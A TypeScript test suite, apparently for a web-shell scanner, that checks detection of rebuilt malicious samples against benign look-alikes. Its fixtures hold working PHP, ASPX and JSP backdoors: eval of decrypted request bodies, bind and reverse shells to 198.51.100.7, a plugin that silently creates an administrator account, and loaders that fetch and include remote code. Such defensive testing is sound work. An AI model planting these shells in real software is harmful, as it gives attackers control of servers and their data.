import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createScanner } from './scanner.js';

// The misses of session 25's held-out set J, looked at after its one scan (J's figures in
// docs/scan.md are that scan's), each technique written again by us: J's files stay outside the
// project.
const scanner = createScanner({});
const scan = (src: string, path = '/www/x.php') => scanner.scanBuffer(Buffer.from(src, 'latin1'), path);

// a table of 64 characters and the names picked out of it ($GLOBALS['tb'][i] . ...)
const TABLE = 'abcdefghijklmnopqrstuvwxyz_ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789.';
const pick = (table: string, name: string) => [...name].map((c) => `$GLOBALS['${table}'][${TABLE.indexOf(c)}]`).join(' . ');

const MALICIOUS: [string, string, string, string][] = [
  ['the request body decrypted and run from an invokable object', 'mamori:decrypted-body-eval', '/www/up.php', `<?php
final class Runner { public function __invoke($code) { eval($code . ''); } }
session_start();
if (isset($_GET['hello'])) { print $_SESSION['key'] = substr(sha1(mt_rand()), 0, 16); exit; }
$parts = explode('|', openssl_decrypt(file_get_contents('php://input'), 'AES-128-ECB', $_SESSION['key']));
call_user_func(new Runner(), $parts[1]);`],
  ['a POST field decrypted and run from a function parameter', 'mamori:decrypted-body-eval', '/www/m.php', `<?php
function go($p) { @eval($p); }
$k = md5('s3cret');
go(openssl_decrypt(base64_decode($_POST['d']), 'aes-256-cbc', $k, OPENSSL_RAW_DATA, substr($k, 0, 16)));`],
  ['a bind shell: what the accepted socket reads, run', 'mamori:socket-command', '/www/b.php', `<?php
set_time_limit(0);
$srv = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);
socket_bind($srv, '0.0.0.0', 4711);
socket_listen($srv);
$peer = socket_accept($srv);
while (true) {
  $line = socket_read($peer, 2048);
  if ($line === false || trim($line) === 'quit') break;
  socket_write($peer, (string) shell_exec(trim($line)));
}`],
  ['a reverse shell reading commands line by line', 'mamori:socket-command', '/www/r.php', `<?php
$c = @fsockopen('198.51.100.7', 8443);
while ($c && !feof($c)) { $cmd = fgets($c, 4096); fwrite($c, (string) @passthru($cmd)); }`],
  ['a shell handed the socket\'s descriptor', 'mamori_php_reverse_shell', '/www/fd.php', `<?php $s = fsockopen("198.51.100.7", 9001); shell_exec("exec bash <&3 >&3 2>&3"); ?>`],
  ['function names picked out of a character table in $GLOBALS', 'mamori:globals-char-table', '/www/cache.php', `<?php
\${"\\x47\\x4c\\x4f\\x42\\x41\\x4c\\x53"}['tb'] = "${TABLE}";
$GLOBALS[${pick('tb', 'aa')}] = ${pick('tb', 'base64_decode')};
$GLOBALS[${pick('tb', 'bb')}] = ${pick('tb', 'strrev')};
$GLOBALS[${pick('tb', 'cc')}] = $_COOKIE;
$GLOBALS[${pick('tb', 'dd')}] = ${pick('tb', 'create_function')};
if (isset($GLOBALS['cc']['x'])) { $f = $GLOBALS[${pick('tb', 'dd')}]('', $GLOBALS[${pick('tb', 'aa')}]($GLOBALS['cc']['x'])); $f(); }`],
  ['eval of a decoder of the file\'s own (numbers shifted, then chr and XOR)', 'mamori:eval-own-decoder', '/www/k.php', `<?php
class Boot {
  public $data = [${[...'print(1);'].map((c) => (c.charCodeAt(0) ^ 7) << 8).join(',')}];
  function __construct() { if (sha1($_GET['k'] ?? '') === 'f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0') { @eval(unpackIt($this->data)); } }
}
function unpackIt($list) { $s = ''; foreach ($list as $n) { $s .= chr(($n >> 8) ^ 7); } return $s; }
new Boot();`],
  ['an ASP.NET page loading an assembly from the decrypted request body stream', 'mamori_aspx_assembly_load', '/www/u.aspx', `<%@ Import Namespace="System.Reflection" %>
<%
  byte[] key = Encoding.Default.GetBytes("0123456789abcdef");
  var reader = new StreamReader(Request.InputStream);
  var body = Convert.FromBase64String(reader.ReadToEnd());
  Assembly.Load(new RijndaelManaged().CreateDecryptor(key, key).TransformFinalBlock(body, 0, body.Length)).CreateInstance("P").Equals(this);
%>`],
  ['an ASP.NET page running cmd.exe with a TextBox\'s text as its arguments', 'mamori_aspx_process_control_input', '/www/run.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<form runat="server"><asp:TextBox id="Arg" runat="server" /><asp:Button runat="server" OnClick="Go" Text="go" /></form>
<script runat="server">
void Go(object o, EventArgs e) {
  var info = new ProcessStartInfo("cmd.exe", "/c " + Arg.Text);
  info.RedirectStandardOutput = true; info.UseShellExecute = false;
  Response.Write(Process.Start(info).StandardOutput.ReadToEnd());
}
</script>`],
];

const SUSPICIOUS: [string, string, string, string][] = [
  ['a database client page: the server and the query from the form', 'mamori:db-client-input', '/www/dbq.php', `<?php
if ($_SERVER['REQUEST_METHOD'] === 'POST') {
  $h = $_POST['h']; $u = $_POST['u']; $p = $_POST['p']; $d = $_POST['d']; $q = $_POST['q'];
  $db = new mysqli($h, $u, $p, $d);
  $res = $db->query($q);
  while ($row = $res->fetch_assoc()) print_r($row);
  exit;
}
?><form method="post"><textarea name="q"></textarea></form>`],
];

const BENIGN: [string, string, string][] = [
  ['a payment callback decrypting the request body, no eval', '/www/notify.php', `<?php
$raw = file_get_contents('php://input');
$data = json_decode(openssl_decrypt(base64_decode($raw), 'aes-256-gcm', KEY, OPENSSL_RAW_DATA, IV, TAG), true);
update_order($data['order'], $data['status']);`],
  ['a socket client writing a fixed command and reading its answer', '/www/status.php', `<?php
$s = fsockopen('127.0.0.1', 11211);
fwrite($s, "stats\\r\\n");
$line = fgets($s);
echo htmlspecialchars($line);
exec('uptime', $out);
echo implode("\\n", $out);`],
  ['a mail daemon check: a socket read, and a fixed command', '/www/mq.php', `<?php
$sock = stream_socket_client('unix:///run/mq.sock');
$reply = fread($sock, 512);
if (strpos($reply, 'READY') === 0) { system('/usr/local/bin/mq-flush'); }`],
  ['a template engine evaluating what its compiler returns', '/www/tpl.php', `<?php
function compile_tpl($t) { return '?>' . preg_replace('/\\{\\{(\\w+)\\}\\}/', '<?= htmlspecialchars($$1) ?>', $t); }
function render($t, $vars) { extract($vars); eval(compile_tpl($t)); }
render(file_get_contents('page.tpl'), ['title' => 'Hello']);`],
  ['a string helper building text with chr() (no eval of it)', '/www/str.php', `<?php
function rot($s, $n) { $o = ''; for ($i = 0; $i < strlen($s); $i++) { $o .= chr((ord($s[$i]) + $n) % 256); } return $o; }
echo rot($_GET['t'] ?? '', 1);`],
  ['a site\'s database page with a fixed server, the query from its own code', '/www/list.php', `<?php
$db = new mysqli(DB_HOST, DB_USER, DB_PASS, DB_NAME);
$q = 'SELECT id, name FROM items WHERE cat = ' . (int) $_GET['cat'];
$res = $db->query($q);
while ($r = $res->fetch_assoc()) echo htmlspecialchars($r['name']);`],
  ['an installer connecting to the server the form names, then running its own schema', '/www/install.php', `<?php
$db = new mysqli($_POST['host'], $_POST['user'], $_POST['pass'], $_POST['name']);
$schema = file_get_contents(__DIR__ . '/schema.sql');
$db->multi_query($schema);`],
  ['configuration read through $GLOBALS by names', '/www/conf.php', `<?php
$GLOBALS['conf'] = ['db' => 'x', 'cache' => 'y'];
function conf($k) { return $GLOBALS['conf'][$k] ?? null; }
$GLOBALS['handlers']['save'] = 'save_item';
$GLOBALS['handlers']['save']($item);`],
  ['an ASP.NET page running a fixed tool on an uploaded file\'s saved name', '/www/conv.aspx', `<%@ Page Language="C#" %>
<script runat="server">
void Go(object o, EventArgs e) {
  var info = new ProcessStartInfo("C:\\\\tools\\\\convert.exe", "in.png out.pdf");
  Process.Start(info).WaitForExit();
  Status.Text = "done";
}
</script>`],
];

describe('scan: held-out set J (session 25), its misses, samples of our own', () => {
  for (const [name, rule, path, src] of MALICIOUS) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
      assert.ok(r.findings.some((f) => f.rule === rule), `${rule} not among ${r.findings.map((f) => f.rule).join(', ')}`);
    });
  }
  for (const [name, rule, path, src] of SUSPICIOUS) {
    it(`suspicious at least: ${name}`, () => {
      const r = scan(src, path);
      assert.notEqual(r.verdict, 'clean', JSON.stringify(r.findings));
      assert.ok(r.findings.some((f) => f.rule === rule), `${rule} not among ${r.findings.map((f) => f.rule).join(', ')}`);
    });
  }
  for (const [name, path, src] of BENIGN) {
    it(`not malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.notEqual(r.verdict, 'malicious', JSON.stringify(r.findings));
      assert.ok(!r.findings.some((f) => /decrypted-body-eval|socket-command|globals-char-table|eval-own-decoder|db-client-input/.test(f.rule)), JSON.stringify(r.findings));
    });
  }
  it('ran every case', () => {
    assert.equal(MALICIOUS.length, 9);
    assert.equal(SUSPICIOUS.length, 1);
    assert.equal(BENIGN.length, 9);
  });
});

// Set I (session 25, held out until its one scan, made after J's fixes): its misses, written again by us.
const hex = (s: string) => Buffer.from(s, 'latin1').toString('hex');
const I_MALICIOUS: [string, string, string, string][] = [
  ['function names as hex text in a table, decoded by a loop and called by element', 'mamori:hex-name-table', '/www/m.php', `<?php
$t = array("${hex('getcwd')}", "${hex('scandir')}", "${hex('file_put_contents')}", "${hex('php_uname')}", "${hex('unlink')}");
for ($i = 0; $i < count($t); $i++) { $t[$i] = unhex($t[$i]); }
function unhex($h) { $o = ''; for ($j = 0; $j < strlen($h) - 1; $j += 2) { $o .= chr(hexdec($h[$j] . $h[$j + 1])); } return $o; }
$here = isset($_GET['d']) ? $_GET['d'] : $t[0]();
foreach ($t[1]($here) as $f) echo htmlspecialchars($f), "<br>";
if (isset($_POST['n'])) $t[2]($here . '/' . $_POST['n'], $_POST['c']);`],
  ['a file read through curl\'s file: scheme, its path from the query', 'mamori:curl-file-read', '/www/rd.php', `<?php
$path = !empty($_GET['f']) ? $_GET['f'] : '/etc/hostname';
$h = curl_init();
curl_setopt($h, CURLOPT_URL, "file:///" . $path);
curl_setopt($h, CURLOPT_RETURNTRANSFER, true);
echo '<pre>' . htmlspecialchars(curl_exec($h)) . '</pre>';`],
  ['the request decoded, written after an opening tag, included and deleted', 'mamori:request-code-file', '/www/wp-echo.php', `<?php
if (isset($_POST['k']) && sha1($_POST['k']) === '0123456789abcdef0123456789abcdef01234567') {
  $body = base64_decode($_POST['b']);
  file_put_contents('.tmp', "<?php\\n" . $body);
  include '.tmp';
  @unlink('.tmp');
}`],
  ['a JSP that hides another behind a JspServletWrapper of its own and loads its classes', 'mamori_jsp_memshell_injector', '/www/h.jsp', `<%@ page import="org.apache.jasper.servlet.JspServletWrapper, java.lang.reflect.*" %><%!
static class Shadow extends JspServletWrapper {
  Shadow(ServletConfig c, org.apache.jasper.Options o, String u, org.apache.jasper.compiler.JspRuntimeContext r) { super(c, o, u, r); }
}
static class Loader extends ClassLoader { Class make(String n, byte[] b) { return super.defineClass(n, b, 0, b.length); } }
static Object field(Object o, String n) throws Exception { Field f = o.getClass().getDeclaredField(n); f.setAccessible(true); return f.get(o); }
%><% Object map = field(application, "context"); %>`],
];
const I_BENIGN: [string, string, string][] = [
  ['colours and hashes as hex text, handlers called by element', '/www/theme.php', `<?php
$colors = ['ffcc00', '336699', 'a1b2c3d4', '5d41402abc4b2a76b9719d911017c592'];
$handlers = ['save' => 'save_item'];
$handlers[$_GET['a'] ?? 'save']($colors);`],
  ['curl fetching an address the site configured', '/www/fetch.php', `<?php
$h = curl_init(FEED_URL . '?page=' . (int) $_GET['p']);
curl_setopt($h, CURLOPT_RETURNTRANSFER, true);
echo curl_exec($h);`],
  ['a config cache written as PHP from the site\'s own settings, then included', '/www/cache.php', `<?php
$settings = load_settings_from_db();
$lang = $_GET['lang'] ?? 'en';
file_put_contents(CACHE . '/settings.php', '<?php return ' . var_export($settings, true) . ';');
$conf = include CACHE . '/settings.php';`],
];

describe('scan: held-out set I (session 25), its misses, samples of our own', () => {
  for (const [name, rule, path, src] of I_MALICIOUS) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
      assert.ok(r.findings.some((f) => f.rule === rule), `${rule} not among ${r.findings.map((f) => f.rule).join(', ')}`);
    });
  }
  for (const [name, path, src] of I_BENIGN) {
    it(`not malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.notEqual(r.verdict, 'malicious', JSON.stringify(r.findings));
      assert.ok(!r.findings.some((f) => /hex-name-table|curl-file-read|request-code-file/.test(f.rule)), JSON.stringify(r.findings));
    });
  }
  it('ran every case', () => {
    assert.equal(I_MALICIOUS.length, 4);
    assert.equal(I_BENIGN.length, 3);
  });
});

// Sets K and L (session 25, held out until their one scan, made after I's fixes and session 24's red-team variants): their misses, written again by us.
const b64 = (s: string) => Buffer.from(s, 'latin1').toString('base64');
const KL_MALICIOUS: [string, string, string, string][] = [
  ['a plugin making an administrator with a name of its own on every request', 'mamori:wp-admin-on-hook', '/www/wp-content/plugins/helper/helper.php', `<?php
/* Plugin Name: Site Helper */
function site_helper_account() {
  if (get_user_by('login', 'svc-helper')) return;
  $id = wp_create_user('svc-helper', 'S3rv1ce!', 'svc@example.org');
  (new WP_User($id))->set_role('administrator');
}
add_action('init', 'site_helper_account');`],
  ['an address written as hex text, decoded by the file, its code run', 'mamori:hidden-address-code', '/www/loader.php', `<?php
$ref = '${hex('https://files.example.net/panel.txt')}';
function h2s($h) { $s = ''; for ($i = 0; $i < strlen($h) - 1; $i += 2) { $s .= chr(hexdec($h[$i] . $h[$i + 1])); } return $s; }
$code = @file_get_contents(h2s($ref));
eval('?>' . $code);`],
  ['an address written as Base64 text, its code saved as PHP and included', 'mamori:hidden-address-code', '/www/l2.php', `<?php
$where = base64_decode('${b64('https://files.example.net/p.txt')}');
$dst = '/tmp/.cache_' . md5(__FILE__) . '.php';
file_put_contents($dst, file_get_contents($where));
include $dst;`],
  ['a raw repository address without its scheme, fetched to a .php and included', 'mamori:paste-site-code', '/www/t.php', `<?php
$src = 'raw.githubusercontent.com/someone/kit/main/panel.php';
$dst = '/tmp/sess_' . md5($_SERVER['HTTP_HOST']) . '.php';
if (!file_exists($dst)) { $h = fopen($dst, 'w'); fwrite($h, file_get_contents('https://' . $src)); fclose($h); }
include $dst;`],
  ['fetched text written after an opening tag, included and deleted', 'mamori:code-run-and-deleted', '/www/wp-load.php', `<?php
$page = file_get_contents(base64_decode($cfg));
preg_match('#<b>(.*)</b>#s', $page, $m);
$h = fopen('.cache', 'w');
fwrite($h, "<?php\\n$m[1]\\n?>");
fclose($h);
include '.cache';
unlink('.cache');
?><?php /* the site's own bootstrap follows */`],
  ['a JSP defining its class from bytes in the page and calling it with the request\'s values', 'mamori_jsp_classloader_shell', '/www/c.jsp', `<%@ page import="java.lang.reflect.*" %><%
  byte[] b = fromHex("CAFEBABE0000");
  Loader l = new Loader(); Class c = l.make(b);
  Method go = c.getMethod("go", new Class[]{ String.class, String.class, OutputStream.class });
  go.invoke(null, new Object[]{ request.getParameter("a"), request.getParameter("b"), response.getOutputStream() });
%><%! class Loader extends ClassLoader { Class make(byte[] b) { return defineClass(null, b, 0, b.length); } } %>`],
  ['a JSP defining a Base64 class through defineClass opened by reflection, then making an instance', 'mamori_jsp_define_class_opened', '/www/p.jsp', `<%
  ClassLoader cl = Thread.currentThread().getContextClassLoader();
  byte[] code = java.util.Base64.getDecoder().decode(PAYLOAD);
  java.lang.reflect.Method d = ClassLoader.class.getDeclaredMethod("defineClass", byte[].class, int.class, int.class);
  d.setAccessible(true);
  ((Class) d.invoke(cl, code, 0, code.length)).newInstance();
%>`],
];
const KL_BENIGN: [string, string, string][] = [
  ['a plugin making editors from the admin form, behind its capability check', '/www/wp-content/plugins/team/team.php', `<?php
add_action('admin_post_team_add', function () {
  if (!current_user_can('create_users')) wp_die('no');
  check_admin_referer('team_add');
  $id = wp_create_user(sanitize_user($_POST['login']), wp_generate_password(), sanitize_email($_POST['email']));
  (new WP_User($id))->set_role('editor');
});
add_action('init', 'team_register_post_type');`],
  ['an updater fetching from a Base64-written address into a JSON cache, and including its config', '/www/update.php', `<?php
$api = base64_decode('${b64('https://api.example.org/v1/releases')}');
file_put_contents(__DIR__ . '/cache/releases.json', file_get_contents($api));
include __DIR__ . '/config.php';`],
  ['a template cache written as PHP and included, never deleted', '/www/view.php', `<?php
$compiled = compile_template(file_get_contents('page.tpl'));
file_put_contents(CACHE . '/page.php', '<?php ' . $compiled);
include CACHE . '/page.php';
if (filemtime('page.tpl') > time()) unlink(CACHE . '/old.php');`],
];

describe('scan: held-out sets K and L (session 25), their misses, samples of our own', () => {
  for (const [name, rule, path, src] of KL_MALICIOUS) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
      assert.ok(r.findings.some((f) => f.rule === rule), `${rule} not among ${r.findings.map((f) => f.rule).join(', ')}`);
    });
  }
  for (const [name, path, src] of KL_BENIGN) {
    it(`not malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.notEqual(r.verdict, 'malicious', JSON.stringify(r.findings));
      assert.ok(!r.findings.some((f) => /wp-admin-on-hook|hidden-address-code|code-run-and-deleted/.test(f.rule)), JSON.stringify(r.findings));
    });
  }
  it('ran every case', () => {
    assert.equal(KL_MALICIOUS.length, 7);
    assert.equal(KL_BENIGN.length, 3);
  });
});
